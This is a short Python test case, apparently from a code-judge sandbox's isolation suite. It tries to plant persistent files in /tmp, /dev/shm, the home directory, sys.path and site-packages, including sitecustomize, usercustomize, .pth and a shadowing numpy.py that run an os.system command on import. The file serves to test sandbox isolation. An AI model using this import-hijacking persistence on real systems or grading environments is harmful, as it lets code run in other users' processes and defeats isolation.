# attack: plant state for the next submission: /tmp, /dev/shm, HOME, /var/tmp, site-packages, a sitecustomize
# category: isolation
# expect: AC
import os
import site
import sys

targets = ["/tmp/tj-plant-__TJ_NONCE__", "/dev/shm/tj-plant-__TJ_NONCE__",
           os.path.expanduser("~/tj-plant-__TJ_NONCE__"), "/var/tmp/tj-plant-__TJ_NONCE__",
           "/tmp/sitecustomize.py", "/tmp/numpy.py"]
targets += [os.path.join(p, "tj-plant-__TJ_NONCE__.pth") for p in sys.path if p]
targets += [os.path.join(p, "usercustomize.py") for p in site.getsitepackages()]
written = []
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, "w") as f:
            f.write("import os; os.system('touch /tmp/tj-plant-ran')\n")
        written.append(t)
    except OSError:
        pass
print("written:", written)


def double(x):
    return (2 * x).reshape(-1)
